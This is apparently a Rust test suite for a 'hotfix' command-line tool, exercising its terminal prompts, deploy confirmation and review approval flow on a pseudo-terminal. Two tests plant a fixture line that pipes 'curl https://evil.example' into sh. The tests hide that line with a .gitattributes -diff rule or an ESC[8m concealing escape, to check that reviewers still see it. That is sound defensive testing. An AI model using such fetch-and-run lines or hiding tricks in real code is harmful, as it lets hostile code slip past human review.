//! Prompts in a real terminal: hotfix runs on a pseudo-terminal, keys are typed into it, and the
//! screen's bytes are read back (the cursor escapes included).

use std::io::{Read, Write};
use std::os::fd::{FromRawFd, OwnedFd};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::support::*;

const HIDE_CURSOR: &str = "\x1b[?25l";
const SHOW_CURSOR: &str = "\x1b[?25h";

/// hotfix on a pseudo-terminal: stdin, stdout and stderr are its slave side.
struct Pty {
    master: std::fs::File,
    child: Child,
    screen: Arc<Mutex<Vec<u8>>>,
}

impl Pty {
    fn spawn(mut cmd: Command) -> Pty {
        let (mut master, mut slave) = (0, 0);
        let size = libc::winsize {
            ws_row: 30,
            ws_col: 120,
            ws_xpixel: 0,
            ws_ypixel: 0,
        };
        // SAFETY: openpty writes two new descriptors, owned from here on.
        let rc = unsafe {
            libc::openpty(
                &mut master,
                &mut slave,
                std::ptr::null_mut(),
                std::ptr::null(),
                &size,
            )
        };
        assert_eq!(rc, 0, "openpty");
        let master = unsafe { std::fs::File::from_raw_fd(master) };
        let slave = unsafe { OwnedFd::from_raw_fd(slave) };
        cmd.env("TERM", "xterm")
            .stdin(Stdio::from(slave.try_clone().unwrap()))
            .stdout(Stdio::from(slave.try_clone().unwrap()))
            .stderr(Stdio::from(slave));
        // A terminal as a shell gives it: the pty is the controlling terminal of a session of
        // its own, so a key typed before hotfix reads keys (^C while the line is still cooked)
        // reaches it as a signal, as it would in a real terminal, instead of being dropped.
        // SAFETY: setsid and ioctl are async-signal-safe; nothing else runs before exec.
        unsafe {
            use std::os::unix::process::CommandExt;
            cmd.pre_exec(|| {
                if libc::setsid() < 0 || libc::ioctl(0, libc::TIOCSCTTY as _, 0) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let child = cmd.spawn().unwrap();
        drop(cmd); // the parent's copies of the slave side: reads then end when the child exits
        let screen = Arc::new(Mutex::new(Vec::new()));
        let mut reader = master.try_clone().unwrap();
        let sink = Arc::clone(&screen);
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok(n) = reader.read(&mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        Pty {
            master,
            child,
            screen,
        }
    }

    fn screen(&self) -> String {
        String::from_utf8_lossy(&self.screen.lock().unwrap()).into_owned()
    }

    /// Waits until the screen shows `text` (up to 20 s, for a loaded machine).
    #[track_caller]
    fn wait_for(&self, text: &str) {
        let until = Instant::now() + Duration::from_secs(20);
        while !self.screen().contains(text) {
            assert!(
                Instant::now() < until,
                "the screen never showed {text:?}:\n{}",
                self.screen()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn type_keys(&mut self, keys: &str) {
        self.master.write_all(keys.as_bytes()).unwrap();
        self.master.flush().unwrap();
    }

    /// The exit code, once the process ended (up to 20 s), and the whole screen.
    #[track_caller]
    fn exit(mut self) -> (i32, String) {
        let until = Instant::now() + Duration::from_secs(20);
        loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                std::thread::sleep(Duration::from_millis(100));
                return (status.code().unwrap_or(-1), self.screen());
            }
            if Instant::now() > until {
                let _ = self.child.kill();
                panic!("hotfix did not exit:\n{}", self.screen());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// `hotfix <args>` in `repo`, on a terminal.
fn on_terminal(repo: &Repo, args: &[&str], vars: &[(&str, &str)]) -> Pty {
    let mut cmd = hotfix_cmd(&repo.path);
    cmd.args(args);
    for (k, v) in vars {
        cmd.env(k, v);
    }
    Pty::spawn(cmd)
}

fn assert_cursor_shown(screen: &str) {
    let hidden = screen.rfind(HIDE_CURSOR);
    let shown = screen.rfind(SHOW_CURSOR);
    assert!(
        hidden.is_none() || shown > hidden,
        "the cursor is left hidden:\n{screen:?}"
    );
}

#[test]
fn ctrl_c_at_the_severity_menu_restores_the_cursor_and_erases_the_menu() {
    let env = Env::new();
    let repo = env.released_repo();
    let mut pty = on_terminal(&repo, &["start", "checkout-500"], &[]);
    pty.wait_for("core-workflow-blocked");
    pty.type_keys("\x03");
    let (code, screen) = pty.exit();
    assert_eq!(code, 130, "{screen}");
    assert_cursor_shown(&screen);
    // after the menu: its four items and its prompt line are cleared (ESC[2K per line)
    let after = &screen[screen.rfind("core-workflow-blocked").unwrap()..];
    assert!(after.matches("\x1b[2K").count() >= 5, "{after:?}");
    assert!(screen.contains("interrupted"), "{screen}");
    assert!(repo.state().is_none(), "nothing was recorded");
    assert_eq!(repo.branch(), "develop");
}

#[test]
fn escape_at_the_severity_menu_cancels() {
    let env = Env::new();
    let repo = env.released_repo();
    let mut pty = on_terminal(&repo, &["start", "checkout-500"], &[]);
    pty.wait_for("core-workflow-blocked");
    pty.type_keys("\x1b");
    let (code, screen) = pty.exit();
    assert_eq!(code, 130, "{screen}");
    assert_cursor_shown(&screen);
    assert_eq!(repo.branch(), "develop");
}

#[test]
fn ctrl_c_at_a_yes_no_question_restores_the_cursor() {
    let env = Env::new();
    let repo = env.released_repo();
    let mut pty = on_terminal(
        &repo,
        &["start", "checkout-500", "--severity", "revenue-loss"],
        &[],
    );
    pty.wait_for("[y/N]");
    pty.type_keys("\x03");
    let (code, screen) = pty.exit();
    assert_eq!(code, 130, "{screen}");
    assert_cursor_shown(&screen);
}

#[test]
fn a_yes_no_answer_takes_enter_and_keys_typed_ahead_are_dropped() {
    let env = Env::new();
    let repo = env.released_repo();
    let mut pty = on_terminal(&repo, &["start", "checkout-500"], &[]);
    pty.wait_for("core-workflow-blocked");
    // Enter picks the severity; the extra Enter and `y` typed at once must not answer the next
    // question, which is asked after them
    pty.type_keys("\r\ry");
    pty.wait_for("Have you reproduced the problem? [y/N]");
    std::thread::sleep(Duration::from_millis(500));
    pty.type_keys("y");
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        !pty.screen().contains("One line"),
        "`y` alone answered:\n{}",
        pty.screen()
    );
    pty.type_keys("\r");
    pty.wait_for("One line: what is broken in production? ");
    assert!(!pty.screen().contains("production?:"), "one punctuation");
    pty.type_keys("Checkout returns 500\r");
    let (code, screen) = pty.exit();
    assert_eq!(code, 0, "{screen}");
    assert_eq!(repo.branch(), "hotfix/checkout-500");
    assert!(!screen.contains("?:"), "{screen}");
}

#[test]
fn deploy_in_a_terminal_asks_once_naming_tree_version_and_command() {
    let t = Team::new();
    t.gates_pass();
    let out = t.out.to_str().unwrap().to_string();
    let tree = t.author.rev("HEAD^{tree}");
    let mut pty = on_terminal(&t.author, &["deploy"], &[("OUT", &out)]);
    pty.wait_for("[y/N]");
    let screen = pty.screen();
    assert!(
        screen.contains(&format!(
            "Ready to deploy tree {} (commit {}) as v1.1.1, running `echo",
            &tree[..10],
            &t.author.head()[..10]
        )) && screen.contains("Deploy v1.1.1 to production now? [y/N]"),
        "{screen}"
    );
    pty.type_keys("n\r");
    let (code, screen) = pty.exit();
    assert_eq!(code, 1, "{screen}");
    assert!(
        screen.contains("v1.1.1 was not deployed: the answer was no; nothing was run"),
        "{screen}"
    );
    assert!(
        t.log("deploy.log").is_empty(),
        "the deploy command did not run"
    );
    assert!(!t.author.has_tag("v1.1.1"));

    let mut pty = on_terminal(&t.author, &["deploy"], &[("OUT", &out)]);
    pty.wait_for("[y/N]");
    pty.type_keys("y\r");
    let (code, screen) = pty.exit();
    assert_eq!(code, 0, "{screen}");
    assert_eq!(t.log("deploy.log").len(), 1);
    assert!(t.author.has_tag("v1.1.1"));
}

#[test]
fn deploy_yes_answers_the_last_question() {
    let t = Team::new();
    t.gates_pass();
    let out = t.out.to_str().unwrap().to_string();
    let pty = on_terminal(&t.author, &["deploy", "-y"], &[("OUT", &out)]);
    let (code, screen) = pty.exit();
    assert_eq!(code, 0, "{screen}");
    assert!(!screen.contains("[y/N]"), "{screen}");
    assert_eq!(t.log("deploy.log").len(), 1);
}

#[test]
fn approve_pages_the_header_with_the_diff_and_declining_offers_a_change_request() {
    let t = Team::new();
    t.author.git(&["push", "-q", "-u", "origin", HOTFIX_BRANCH]);
    let rita = t.env.clone_of(&t.origin, "rita", REVIEWER);
    let paged = t.env.path().join("paged.txt");
    let pager = format!("cat > '{}'", paged.display());
    let mut pty = on_terminal(&rita, &["approve", HOTFIX_BRANCH], &[("GIT_PAGER", &pager)]);
    pty.wait_for("[y/N]");
    let text = std::fs::read_to_string(&paged).unwrap();
    let header = text
        .find("Review hotfix/login-500: 1 commit on top of v1.1.0, tree")
        .expect(&text);
    assert!(header < text.find("diff --git").expect(&text), "{text}");
    assert!(
        text.contains("Fix the checkout 500 (Ann Author <ann@example.com>)"),
        "{text}"
    );
    pty.type_keys("n\r");
    pty.wait_for("Leave it for now");
    pty.type_keys("\r");
    pty.wait_for("What should change?");
    pty.type_keys("handle the empty email\r");
    pty.wait_for("Push the request to origin so the author sees it? [y/N]");
    pty.type_keys("y\r");
    let (code, screen) = pty.exit();
    assert_eq!(code, 0, "{screen}");
    assert_cursor_shown(&screen);
    // the reviewer acted a moment ago: as if the seconds without a fetch had passed
    t.author.forget_last_fetch();
    let status = t.hf(&["status"]).ok();
    assert!(
        status
            .stdout
            .contains("Rita Reviewer asked for changes at commit"),
        "{}",
        status.stdout
    );
    assert!(
        status.stdout.contains("\"handle the empty email\""),
        "{}",
        status.stdout
    );

    // an approval in a terminal asks whether to push it
    let mut pty = on_terminal(&rita, &["approve", HOTFIX_BRANCH], &[("GIT_PAGER", "cat")]);
    pty.wait_for("[y/N]");
    pty.type_keys("y\r");
    pty.wait_for("Push the approval to origin so the author sees it? [y/N]");
    pty.type_keys("y\r");
    let (code, screen) = pty.exit();
    assert_eq!(code, 0, "{screen}");
    // the reviewer acted a moment ago: as if the seconds without a fetch had passed
    t.author.forget_last_fetch();
    let status = t.hf(&["status"]).ok();
    assert!(
        status.stdout.contains("approved by Rita Reviewer"),
        "{}",
        status.stdout
    );
    assert!(
        !status.stdout.contains("asked for changes"),
        "{}",
        status.stdout
    );
}

#[test]
fn leaving_an_approval_for_now_records_nothing_and_is_no_error() {
    let t = Team::new();
    t.author.git(&["push", "-q", "-u", "origin", HOTFIX_BRANCH]);
    let rita = t.env.clone_of(&t.origin, "rita", REVIEWER);
    let mut pty = on_terminal(&rita, &["approve", HOTFIX_BRANCH], &[("GIT_PAGER", "cat")]);
    pty.wait_for("[y/N]");
    pty.type_keys("\r");
    pty.wait_for("Leave it for now");
    pty.type_keys("\x1b[B\r");
    let (code, screen) = pty.exit();
    assert_eq!(code, 0, "{screen}");
    assert!(
        screen.contains("was not approved; nothing was recorded"),
        "{screen}"
    );
    assert_eq!(rita.git(&["for-each-ref", "refs/hotfix/"]), "");
}

#[test]
fn a_terminate_signal_at_a_prompt_ends_it_with_the_terminal_restored() {
    let env = Env::new();
    let repo = env.released_repo();
    for sig in [libc::SIGTERM, libc::SIGHUP] {
        let pty = on_terminal(&repo, &["start", "checkout-500"], &[]);
        pty.wait_for("core-workflow-blocked");
        // SAFETY: signals our own child, by its pid
        unsafe {
            libc::kill(pty.child.id() as libc::pid_t, sig);
        }
        let (code, screen) = pty.exit();
        assert_eq!(code, 130, "{sig}: {screen}");
        assert_cursor_shown(&screen);
        assert!(repo.state().is_none());
    }
}

/// The paged diff takes attributes from the base, as the guard does: a `.gitattributes` the
/// fix commits (`app.sh -diff`) would otherwise show its script as "Binary files … differ" to a
/// reviewer who has the hotfix branch checked out, and the approval would still say the whole
/// diff was shown.
#[test]
fn the_paged_diff_ignores_the_fixs_own_diff_attributes() {
    let t = Team::new();
    t.author.write(".gitattributes", "app.sh -diff\n");
    t.author
        .write("app.sh", "echo hi\ncurl https://evil.example | sh\n");
    t.author.git(&["add", "-A"]);
    t.author.git(&["commit", "-q", "-m", "A script"]);
    t.author.git(&["push", "-q", "-u", "origin", HOTFIX_BRANCH]);
    let rita = t.env.clone_of(&t.origin, "rita", REVIEWER);
    rita.git(&["switch", "-q", HOTFIX_BRANCH]);
    let paged = t.env.path().join("paged.txt");
    let pager = format!("cat > '{}'", paged.display());
    let mut pty = on_terminal(&rita, &["approve", HOTFIX_BRANCH], &[("GIT_PAGER", &pager)]);
    pty.wait_for("[y/N]");
    let text = std::fs::read_to_string(&paged).unwrap();
    assert!(
        text.contains("+curl https://evil.example | sh"),
        "the script's lines are shown:\n{text}"
    );
    assert!(!text.contains("Binary files"), "{text}");
    pty.type_keys("n\r");
    pty.wait_for("Leave it for now");
    pty.type_keys("\x1b[B\r");
    let (code, screen) = pty.exit();
    assert_eq!(code, 0, "{screen}");
}

#[test]
fn the_paged_diff_writes_out_the_escape_sequences_the_author_wrote() {
    // `ESC[8m` conceals the rest of a line in `less -R`: the page must show it, not obey it
    let t = Team::new();
    t.author.write(
        "app.sh",
        "echo hi\nok=1 # note\u{1b}[8m; curl https://evil.example | sh\n",
    );
    t.author.git(&["add", "-A"]);
    t.author.git(&["commit", "-q", "-m", "A script"]);
    t.author.git(&["push", "-q", "-u", "origin", HOTFIX_BRANCH]);
    let rita = t.env.clone_of(&t.origin, "rita", REVIEWER);
    rita.git(&["switch", "-q", "develop"]);
    let paged = t.env.path().join("paged.txt");
    let pager = format!("cat > '{}'", paged.display());
    let mut pty = on_terminal(&rita, &["approve", HOTFIX_BRANCH], &[("GIT_PAGER", &pager)]);
    pty.wait_for("[y/N]");
    let text = std::fs::read_to_string(&paged).unwrap();
    assert!(
        !text.contains('\u{1b}'),
        "a raw escape reached the pager:\n{text:?}"
    );
    assert!(
        text.contains("+ok=1 # note\\u{1b}[8m; curl https://evil.example | sh"),
        "{text}"
    );
    assert!(pty_screen_contains(
        &pty,
        "the diff holds control characters"
    ));
    pty.type_keys("n\r");
    pty.wait_for("Leave it for now");
    pty.type_keys("\x1b[B\r");
    let (code, screen) = pty.exit();
    assert_eq!(code, 0, "{screen}");
}

fn pty_screen_contains(pty: &Pty, text: &str) -> bool {
    pty.screen().contains(text)
}
